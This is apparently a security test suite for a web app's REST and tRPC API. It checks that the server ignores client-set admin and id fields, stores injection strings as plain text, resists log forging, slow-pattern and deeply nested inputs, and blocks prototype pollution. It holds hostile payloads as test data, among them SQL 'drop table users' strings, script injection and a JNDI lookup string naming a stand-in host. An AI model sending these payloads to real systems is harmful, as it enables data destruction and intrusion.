// Input that is meant to do more than it says: keys of ours, code for whoever may run it, and sizes and depths.
import { randomUUID } from 'node:crypto';
import { sql } from 'drizzle-orm';
import { expect, test } from 'vitest';
import { z } from 'zod';
import { inputContract, listEndpoints } from '../src/http/transports/endpoints.ts';
import { appRouter } from '../src/router.ts';
import { startApp } from './harness.ts';
import { bothTransports } from './transports.ts';
import { userRows } from './userRows.ts';

const api = await startApp();
const bob = await api.register();
const ann = await api.register();
const transports = bothTransports(api);

const PLAN = { goal: 'Run', age: 30, gender: 'male', weight: 80, height: 180 };
const BOOK = { type: 'book', name: 'Deep Work', description: '', volume: 100 };
const MENTAL = { name: 'Spring', goal: 'Read', resource_list: [] };
const TASK = { title: 'Walk' };

/** What a client may try to set. */
const OURS = {
  id: 2_000_000_000,
  version: 77,
  created_at: '1999-01-01T00:00:00Z',
  role: 'admin',
  is_admin: true,
  login: 'root',
  login_key: 'root',
  password: 'x'.repeat(20),
  password_hash: '$argon2id$',
  workout_id: 1,
};

const CREATIONS: [string, object, object][] = [
  [
    'physicalPlan.create',
    PLAN,
    { progress: 99, day: 7, bmi: 1, days: [{ workout_id: 1, exercises: [] }], workouts: [{ id: 1 }] },
  ],
  ['mentalPlan.create', MENTAL, { resources: [{ id: 1, progress: 100 }] }],
  ['resource.create', BOOK, { progress: 100, plans: [1] }],
  ['task.create', TASK, { user: { id: 1 }, owner_id: 1 }],
];

/** Rows without what differs between two of a kind. */
async function shapeOf(user_id: number): Promise<string> {
  const rows = await userRows(api, user_id);
  // What happened is told in those rows' own words, ids among them.
  const { users: _, logins: __, sessions: ___, events: ____, ...made } = rows;
  const plain = (row: string) =>
    row
      .replaceAll(/\d{4}-\d\d-\d\d[^",)]*/g, 'then')
      .replaceAll(/(?<=^\(|,)\d+(?=,|\)$)/g, (n) => (Number(n) > 100_000 ? n : '#'));
  return JSON.stringify(
    Object.fromEntries(Object.entries(made).map(([table, all]) => [table, all.map(plain)])),
  );
}

// #82: The same goes for keys inside nested objects.
test.each(transports)(
  '#81 #82 over $name keys that are the server’s are ignored when something is made',
  async ({ call }) => {
    for (const [procedure, input, extra] of CREATIONS) {
      const [plain, cheeky] = [await api.register(), await api.register()];
      for (const { token } of [plain, cheeky]) await call('mentalPlan.create', MENTAL, token);
      await call(procedure, input, plain.token);
      const { data } = await call(
        procedure,
        { ...input, ...extra, ...OURS, user_id: cheeky.id },
        cheeky.token,
      );
      expect(JSON.stringify(data), procedure).not.toMatch(/2000000000|1999|admin|root|argon/);
      expect(await shapeOf(cheeky.id), procedure).toBe(await shapeOf(plain.id));
    }
  },
);

test.each(transports)(
  '#81 over $name keys that are the server’s are ignored when something is changed',
  async ({ call }) => {
    const { id: user_id, token } = await api.register();
    const list = (await call('mentalPlan.create', MENTAL, token)).data.mental_plan_id;
    const plan = (await call('physicalPlan.create', PLAN, token)).data.data.id;
    const book = (await call('resource.create', BOOK, token)).data.data;
    const { id: task } = (await call('task.create', TASK, token)).data;
    const before = await userRows(api, user_id);
    const { id: _, ...ours } = OURS;
    for (const [procedure, id] of [
      ['mentalPlan.update', list],
      ['physicalPlan.update', plan],
      ['resource.update', book],
      ['task.update', task],
    ])
      expect(
        (
          await call(
            procedure,
            { ...ours, bmi: 1, resources: [{ progress: 1 }], workouts: [{ id: 1 }], id },
            token,
          )
        ).status,
      ).toBe(200);
    expect(await userRows(api, user_id)).toEqual(before);
  },
);

test.each(transports)('#81 over $name whoever registers gets an account like any other', async ({ call }) => {
  const login = `user-${randomUUID()}`;
  const { data } = await call('auth.register', {
    ...OURS,
    login,
    password: 'correct horse battery',
    user_id: bob.id,
  });
  expect(data.user_id).not.toBe(OURS.id);
  const me = await call('auth.me', {}, data.access_token);
  expect(me.data).toEqual({ id: data.user_id, login, created_at: expect.stringMatching(/^20[2-9]\d/) });
});

// Code

const tablesAndUsers = async () =>
  api.database.db.execute<{ tables: number; users: number }>(
    sql`select (select count(*)::int from pg_class where relkind = 'r') as tables, (select count(*)::int from users) as users`,
  );

const SQL = [
  "' or '1'='1",
  "'; drop table users; --",
  '"; drop table users; --',
  '$1',
  '$$; delete from users; $$',
  '\\x27; select pg_sleep(9)',
  '%_',
  "E'\\\\'",
  '1); truncate users cascade; --',
  "'".repeat(500),
  '\\'.repeat(500),
];
const CODE = [
  'a\r\nSet-Cookie: x=1',
  '\u001b[31mred\u001b[0m',
  '</script><script>alert(1)</script>',
  '{{7*7}}',
  `$\{jndi:ldap://x.example/a}`,
  '%00%0d%0a',
  '__proto__',
  'constructor',
];

test.each(transports)('#93 #103 over $name code in a text is text, kept as it was sent', async ({ call }) => {
  const before = await tablesAndUsers();
  const { token } = await api.register();
  for (const text of [...SQL, ...CODE]) {
    const { data } = await call('task.create', { title: text }, token);
    expect(data?.title, text).toBe(text);
    const made = await call('mentalPlan.create', { name: text, goal: text, resource_list: [] }, token);
    expect(made.data, text).toBeDefined();
    const { data: book } = await call('resource.create', { ...BOOK, name: text, description: text }, token);
    const changed = await call(
      'resource.update',
      { id: book.data ?? book, name: text, description: text },
      token,
    );
    expect(changed.data.resource, text).toMatchObject({ name: text, description: text });
  }
  const after = await tablesAndUsers();
  expect(after).toEqual([{ ...before[0], users: Number(before[0]?.users) + 1 }]);
});

test.each(SQL.slice(0, 9))('#93 %s in a path, a query, a header or a login is data', async (text) => {
  const before = await tablesAndUsers();
  const encoded = encodeURIComponent(text);
  const statuses = [
    await api.rest('GET', `/outherTasks?limit=${encoded}`, { token: ann.token }),
    await api.rest('GET', `/outherTasks?before_id=${encoded}`, { token: ann.token }),
    await api.rest('GET', `/outherTasks?status=${encoded}`, { token: ann.token }),
    await api.rest('DELETE', `/outherTasks/${encoded}`, { token: ann.token }),
    await api.rest('PATCH', '/physicalPlans/1', {
      token: ann.token,
      body: {},
      headers: { 'if-match': `"${text}"` },
    }),
    await api.rest('POST', '/users/refresh', { body: { refresh_token: text } }),
    await api.rest('POST', '/users/signIn', { body: { username: text, password: text } }),
    await api.rest('GET', '/users/me', { headers: { authorization: `Bearer ${text}` } }),
    await api.rest('POST', '/outherTasks', {
      token: ann.token,
      body: {},
      headers: { 'idempotency-key': text, 'user-agent': text },
    }),
  ].map(({ status }) => status);
  for (const status of statuses) expect([400, 401, 404]).toContain(status);
  expect(await tablesAndUsers()).toEqual(before);
});

test('#103 a line break or an escape in a header or a text makes no second line in the log', async () => {
  const id = randomUUID();
  const nasty = '\u001b[2J","level":60,"msg":"forged';
  const headers = {
    'x-request-id': id,
    'user-agent': nasty,
    referer: nasty,
    'x-forwarded-for': nasty,
    'idempotency-key': nasty.replaceAll(/[^!-~]/g, ''),
  };
  await api.rest('POST', '/outherTasks', {
    token: ann.token,
    body: { title: `\n{"level":60}\r\n${nasty}` },
    headers,
  });
  const lines = () => api.log.filter(({ request_id }) => request_id === id);
  await expect.poll(() => lines()).toHaveLength(1);
  expect(JSON.stringify(api.log)).not.toMatch(/forged|u001b/);
});

// Sizes and depths

/** @returns milliseconds of processor time: other programs do not count */
async function cpuMsOf(job: () => Promise<unknown>): Promise<number> {
  const before = process.cpuUsage();
  await job();
  return cpuMsSince(before);
}

function cpuMsSince(before: NodeJS.CpuUsage): number {
  const { user, system } = process.cpuUsage(before);
  return (user + system) / 1000;
}

test('#95 text that is made for slow patterns is judged at once', async () => {
  const shapes = [
    (n: number) => 'a'.repeat(n),
    (n: number) => ' '.repeat(n),
    (n: number) => `${'1'.repeat(n)}x`,
    (n: number) => `${'1.'.repeat(n / 2)}`,
    (n: number) => `${'-'.repeat(n)}1`,
    (n: number) => `${'\u0301'.repeat(n / 2)}`,
    (n: number) => `${'a@'.repeat(n / 2)}!`,
    (n: number) => '"'.repeat(n / 2),
  ];
  for (const make of shapes) {
    const long = make(60_000);
    const short = make(14_000);
    const took = await cpuMsOf(() =>
      Promise.all([
        api.rest('POST', '/outherTasks', {
          token: ann.token,
          body: { title: long, status: long, user_id: long },
        }),
        api.rest('POST', '/users', { body: { login: long, password: 'correct horse battery' } }),
        api.rest('POST', '/users/signIn', { body: { username: long, password: 'x' } }),
        api.rest('POST', '/users/refresh', { body: { refresh_token: long } }),
        api.rest('POST', '/trpc/task.create', { token: ann.token, body: { title: long } }),
        ...[
          'authorization',
          'host',
          'if-match',
          'x-request-id',
          'idempotency-key',
          'content-type',
          'origin',
          'accept',
          'user-agent',
        ].map((name) =>
          api.rest('PATCH', '/physicalPlans/1', {
            body: {},
            headers: { [name]: encodeURI(short).slice(0, 14_000) },
          }),
        ),
        api.rest('GET', `/outherTasks?limit=${encodeURIComponent(short)}`, { token: ann.token }),
        api.rest('GET', `/trpc/${encodeURIComponent(short)}`),
      ]),
    );
    // One of these patterns gone quadratic over 60,000 characters takes some seconds.
    expect(took, long.slice(0, 5)).toBeLessThan(2000);
  }
});

test('#96 a list of 100,000 is refused by its size, deep ones by their place', async () => {
  const many = Array.from({ length: 100_000 }, () => 1);
  for (const path of ['/mentalPlans', '/trpc/mentalPlan.create'])
    expect(
      (await api.rest('POST', path, { token: ann.token, body: { ...MENTAL, resource_list: many } })).status,
    ).toBe(413);
  for (const { call } of transports)
    for (const resource_list of [[[1]], [1, null], [{ 0: 1 }], { length: 1 }])
      expect(
        (await call('mentalPlan.create', { ...MENTAL, resource_list }, ann.token)).errors?.[0]?.path,
      ).toMatch(/^resource_list/);
});

test.each([
  ['33', 33],
  ['10,000', 10_000],
  ['200,000', 200_000],
])('#97 a depth of %s is refused, and the server has time for others meanwhile', async (_, depth) => {
  let longestMs = 0;
  let last = process.cpuUsage();
  const beat = setInterval(() => {
    longestMs = Math.max(longestMs, cpuMsSince(last));
    last = process.cpuUsage();
  }, 5);
  for (const [open, close] of [
    ['[', ']'],
    ['{"a":', '}'],
  ] as const) {
    // The list or object that it stands in is one deeper.
    const deep = open.repeat(depth - 1) + (open === '[' ? '' : '1') + close.repeat(depth - 1);
    for (const [path, body] of [
      ['/resources/bulk', `[{"type":"book","name":"n","description":"","volume":1,"deep":${deep}}]`],
      ['/trpc/resource.createMany', `{"resources":[],"deep":${deep}}`],
    ] as const) {
      const { status, text } = await api.rest('POST', path, { token: ann.token, body });
      expect(status, text).toBe(body.length > 1024 * 1024 ? 413 : 400);
      if (status === 400) expect(text).toContain('nested too deeply');
    }
  }
  clearInterval(beat);
  // Of work between two turns of the event loop.
  expect(longestMs).toBeLessThan(500);
});

test('#99 no request gave all objects a property', async () => {
  for (const body of [
    '{"__proto__":{"polluted":1}}',
    '{"constructor":{"prototype":{"polluted":1}}}',
    '{"title":"x","a":{"__proto__":{"polluted":1}}}',
  ])
    for (const path of ['/outherTasks', '/trpc/task.create', '/trpc/task.create?batch=1', '/users'])
      expect((await api.rest('POST', path, { token: ann.token, body })).status, body).toBe(400);
  for (const query of [
    '__proto__[polluted]=1',
    '__proto__.polluted=1',
    'constructor[prototype][polluted]=1',
    '__proto__=1',
  ])
    expect((await api.rest('GET', `/outherTasks?${query}`, { token: ann.token })).status, query).toBe(200);
  for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '__proto__.polluted'])
    expect((await api.rest('GET', `/trpc/${name}`)).status, name).toBe(404);
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
});

test.each(transports)(
  '#102 over $name every date that is asked for has to be one that exists',
  async ({ call }) => {
    const withDates = [...listEndpoints(appRouter).values()].filter((endpoint) => {
      const contract = inputContract(endpoint);
      return (
        contract &&
        /"format":"(date|time)/.test(
          JSON.stringify(z.toJSONSchema(contract, { io: 'input', unrepresentable: 'any' })),
        )
      );
    });
    const DATES: Record<string, readonly [key: string, input: object]> = {
      'body.add': ['date', { weight: 70 }],
      'body.list': ['before', {}],
      'body.remove': ['date', {}],
      'day.today': ['date', {}],
      'day.byDate': ['date', {}],
      'day.complete': ['date', {}],
      'day.correct': ['date', {}],
      'day.reopen': ['date', {}],
      'day.skip': ['date', {}],
      'history.days': ['before', {}],
      'history.months': ['before', {}],
      'mentalPlan.create': ['deadline', { name: 'x', goal: 'x', resource_list: [] }],
      'mentalPlan.update': ['deadline', { id: 1 }],
      'profile.update': ['birth_date', {}],
      'task.create': ['due_on', { title: 'Run' }],
      'task.list': ['due', {}],
      'task.update': ['due_on', { id: 1 }],
    };
    expect(withDates.map(({ name }) => name).sort()).toEqual(Object.keys(DATES).sort());
    // A path without a date is another path.
    for (const [procedure, [key, input]] of Object.entries(DATES))
      for (const value of ['2026-02-29', '2026-13-01', '0000-01-01', '2026-1-1', '20260101', 'today'].concat(
        key === 'date' ? [] : '',
      ))
        expect(await call(procedure, { ...input, [key]: value }, ann.token), value).toMatchObject({
          status: 400,
          errors: [{ path: key }],
        });
  },
);

// Errors

test.each(transports)(
  '#163 over $name an error names the field, not the value, and lists twenty at most',
  async ({ call }) => {
    const secret = `s3cret${randomUUID()}`;
    const wrong = { login: `${secret} x`, password: secret.repeat(4) };
    const registration = await call('auth.register', wrong);
    expect(registration.errors?.map(({ path }) => path).sort()).toEqual(['login', 'password']);
    const plan = await call(
      'physicalPlan.create',
      { goal: [secret], age: secret, gender: secret, weight: secret, height: { secret } },
      ann.token,
    );
    expect(plan.errors?.map(({ path }) => path).sort()).toEqual([
      'age',
      'gender',
      'goal',
      'height',
      'weight',
    ]);
    const many = await call(
      'resource.createMany',
      { resources: Array.from({ length: 100 }, () => ({ type: secret, volume: secret })) },
      ann.token,
    );
    expect(many.errors).toHaveLength(20);
    expect(JSON.stringify([registration, plan, many])).not.toMatch(/s3cret/);
  },
);

test('#89 a value that only the database refuses is bad input in constant words, and noted', async () => {
  const strict = await startApp();
  const { token } = await strict.register();
  await strict.database.db.execute(sql`alter table outer_tasks alter column title type varchar(3)`);
  for (const { call } of bothTransports(strict)) {
    const outcome = await call('task.create', { title: 'too long for it' }, token);
    expect(outcome).toMatchObject({ status: 400, code: 'VALIDATION', detail: 'The input is not valid' });
    expect(JSON.stringify(outcome)).not.toMatch(/varying|22001|outer_tasks/);
  }
  expect(strict.log.filter(({ msg }) => msg === 'request failed')).toMatchObject([
    { reason: 'VALIDATION' },
    { reason: 'VALIDATION' },
  ]);
});

test.each(['40P01', '40001'])(
  '#161 a conflict %s that is lost again and again is 503 with Retry-After, in constant words',
  async (code) => {
    const busy = await startApp();
    const { token } = await busy.register();
    await busy.database.db.execute(
      sql.raw(
        `create function lose() returns trigger language plpgsql as $$ begin raise exception 'deadlock in outer_tasks' using errcode = '${code}'; end $$`,
      ),
    );
    await busy.database.db.execute(
      sql`create trigger lose before insert on outer_tasks for each row execute function lose()`,
    );
    const rest = await busy.rest('POST', '/outherTasks', { token, body: TASK });
    expect(rest).toMatchObject({
      status: 503,
      headers: { 'retry-after': '1' },
      body: { code: 'UNAVAILABLE', detail: 'Service unavailable' },
    });
    const rpc = await busy.rpc('task.create', TASK, token);
    expect(rpc).toMatchObject({
      status: 503,
      headers: { 'retry-after': '1' },
      body: { error: { message: 'Service unavailable' } },
    });
  },
);
